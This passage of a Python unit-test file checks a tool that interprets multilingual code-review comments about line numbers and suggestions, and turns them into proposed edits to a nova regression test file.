            'Line 73: `_boot_and_check_allocations` already checks the '
            'source, so please remove line 73.\n')
        self.assertEqual('ours', report.reviewed_version)
        removed, _added = self.delta(proposed)
        self.assertEqual(["server = self._boot_and_check_allocations("
                          "self.flavor1, 'host1')"], removed)

    def test_numbers_without_named_code_decide_nothing(self):
        report, proposed = self.prepare(
            'Line 72: this looks redundant, please remove line 72.\n')
        self.assertEqual('ours', report.reviewed_version)


class TestHeldout18Classes(_Prepared):
    """Classes heldout18 showed misread (stop 30), one test each."""

    def test_a_black_reformatted_line_is_the_same_line(self):
        self.assertEqual(
            quotes.logical_lines("x = f('host2', a, )"),
            quotes.logical_lines('x = f(\n    "host2",\n    a,\n)'))
        # A string with a quote or an escape inside keeps its quotes.
        self.assertNotEqual(quotes.logical_lines("x = \"it's\""),
                            quotes.logical_lines("x = 'it s'"))

    def test_a_cited_title_and_a_comma_ask_for_no_removal(self):
        # h18_05: the commit's title says "Remove"; the sentence the block
        # interrupts goes on "has to lose the first argument".
        report, proposed = self.prepare(
            'Since "functional: Remove \'api\' parameter" the helpers pick '
            'the client themselves, so line 55,\n\n'
            "    server = self._wait_for_state_change(server, 'ERROR')\n\n"
            'has to lose its first argument on older branches.\n')
        self.assertIsNone(proposed)

    def test_alternatives_are_a_claim_not_a_change(self):
        # h18_22
        report, proposed = self.prepare(
            "I'd drop one of them: either the migration status "
            '`assertEqual` on 55 or the host `assertEqual` on 60.\n')
        self.assertEqual('unverified', report.verdict)
        self.assertIsNone(proposed)

    def test_a_noun_of_removal_describes(self):
        # h18_18: "the new signature after the argument's removal".
        report, proposed = self.prepare(
            '`_wait_for_state_change(server, \'ERROR\')` \u306f api '
            '\u5f15\u6570\u524a\u9664\u5f8c\u306e\u65b0\u3057\u3044'
            '\u30b7\u30b0\u30cd\u30c1\u30e3\u3067\u3059\u3002\n')
        self.assertEqual('no-fix', report.verdict)

    def test_a_suggestion_under_a_header_naming_its_line(self):
        # h18_27: Korean "line 87" on the file's header line.
        report, proposed = self.prepare(
            '**tests/functional/test_bug_1825537.py** 87\ubc88\uc9f8 '
            '\uc904\n\n\ud558\ud55c\ub9cc.\n\n'
            '```suggestion\n'
            '        self.assertGreaterEqual(\n'
            "            self._get_provider_usages(dest_rp_uuid)['VCPU'], "
            "1)\n```\n")
        removed, added = self.delta(proposed)
        self.assertEqual(
            ['self.assertFlavorMatchesUsage(dest_rp_uuid, self.flavor2)'],
            removed)

    def test_a_continuation_line_under_its_header(self):
        # h18_32
        report, proposed = self.prepare(
            'File tests/functional/test_bug_1825537.py:\n\nLine 85:\n'
            "Shouldn't this be source_rp_uuid?\n\n"
            "    self.flavor2, server['id'], source_rp_uuid)\n",
            suffix='.txt')
        removed, added = self.delta(proposed)
        self.assertEqual(["self.flavor2, server['id'], dest_rp_uuid)"],
                         removed)
        self.assertEqual(["self.flavor2, server['id'], source_rp_uuid)"],
                         added)

    def test_code_on_lines_n_m_can_be_removed(self):
        # h18_29
        report, proposed = self.prepare(
            'The `assertFlavorMatchesAllocation` call on lines 84-85 is '
            'redundant and can be removed.\n')
        removed, added = self.delta(proposed)
        # The statement goes with the comment above it; no other code.
        self.assertEqual(['self.assertFlavorMatchesAllocation(',
                          "self.flavor2, server['id'], dest_rp_uuid)"],
                         [line for line in removed
                          if line and not line.startswith('#')])

    def test_a_comment_on_a_statement_removes_it_whole(self):
        # h11_35: the commented line opens a statement of two lines.
        report, proposed = self.prepare(
            'File tests/functional/test_bug_1825537.py:\n\nLine 62:\n'
            'This adds nothing, please drop it.\n', suffix='.txt')
        removed, added = self.delta(proposed)
        self.assertEqual(["self.assertIn('Virtual Interface creation "
                          "failed',", "server['fault']['message'])"],
                         removed)

    def test_the_2019_dialect_tells_the_numbering(self):
        # h18_26: "admin_api" on line 43 is the recreate and fixed
        # versions', which agree on lines 43 and 47.
        report, proposed = self.prepare(
            'File nova/tests/functional/regressions/test_bug_1825537.py:'
            '\n\nLine 43:\nok, admin_api is needed here.\n\nLine 47:\n'
            'This duplicates the placement checks. Please remove it.\n',
            suffix='.txt')
        self.assertEqual('fixed', report.reviewed_version)
        removed, added = self.delta(proposed)
        self.assertEqual(
            ["self.assertEqual(dest_host, server['OS-EXT-SRV-ATTR:host'])"],
            removed)
